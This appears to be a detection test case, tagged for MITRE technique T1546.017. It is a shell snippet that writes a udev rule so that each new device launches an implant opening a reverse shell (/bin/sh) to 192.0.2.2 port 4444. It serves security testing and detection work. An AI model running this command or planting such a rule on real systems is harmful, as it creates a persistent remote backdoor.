# category: persistence
# technique: T1546.017
# art: no
# expect: system-service-modified
# desc: a udev rule runs an implant whenever a device appears
mkdir -p /etc/udev/rules.d
echo 'ACTION=="add", RUN+="/usr/local/bin/exr-net connect 192.0.2.2 4444 -e /bin/sh"' > /etc/udev/rules.d/75-net.rules
